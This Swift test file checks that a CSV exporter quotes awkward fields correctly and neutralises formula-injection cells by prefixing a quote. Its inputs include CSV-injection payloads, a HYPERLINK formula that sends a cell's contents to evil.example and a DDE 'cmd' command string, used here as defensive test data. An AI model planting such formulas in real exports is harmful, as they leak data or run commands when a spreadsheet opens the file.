import Foundation
import LabSheets
import LabTestSupport
import XCTest

/// The CSV as a spreadsheet or script reads it: Python's csv module must get the data back unchanged.
final class CSVTests: XCTestCase {
    func readBack(_ csv: String) throws -> [[String]] {
        let dir = try TemporaryDirectory("csv")
        defer { dir.remove() }
        return try XCTUnwrap(try Python.json("read-csv.py", [try dir.write("t.csv", csv).path]) as? [[String]])
    }

    func testParticipantTableReadsBackEqualToTheData() throws {
        let rows = try readBack(ParticipantTable.csv(Fixture.participants))
        XCTAssertEqual(rows, [ParticipantTable.header] + ParticipantTable.rows(Fixture.participants))
        XCTAssertEqual(rows[2][1], "Doe, Jane \"JD\"")
    }

    func testAwkwardFieldsSurvive() throws {
        let data = [
            ["comma, inside", "quote \" inside", "\"starts with quote", "line\nbreak", "crlf\r\nbreak"],
            [" leading space", "trailing space ", "", "plain", "tab\there"],
            ["1=1+1", "Zoë, \"Z\"\n<script>", "ends with \"", "\"\"", "semi;colon"],
        ]
        XCTAssertEqual(try readBack(CSVWriter.render(header: ["a", "b", "c", "d", "e"], rows: data)), [["a", "b", "c", "d", "e"]] + data)
    }

    /// OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading `'`, so a
    /// spreadsheet shows it as text; RFC 4180 quoting still applies around it.
    func testCellsThatStartLikeAFormulaAreNeutralised() throws {
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        var jane = Fixture.participants[0]
        jane.displayName = formula
        let rows = try readBack(ParticipantTable.csv([jane]))
        XCTAssertEqual(rows[1][1], "'" + formula)
        XCTAssertEqual(rows[1][0], jane.name, "an ordinary cell is left alone")
        let risky = ["+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tTAB", "\rCR", "-", "-5"]
        let back = try readBack(CSVWriter.render(header: risky.indices.map { "c\($0)" }, rows: [risky]))
        XCTAssertEqual(back[1], risky.map { "'" + $0 }, "each starts with a quote that spreadsheets take as 'text'")
        // Quoting still works on a neutralised cell; a formula character later in a cell is harmless.
        XCTAssertEqual(CSVWriter.render(header: ["a"], rows: [["=1,2"], ["a=b"], ["'quoted"]]), "a\r\n\"'=1,2\"\r\na=b\r\n'quoted\r\n")
    }
}
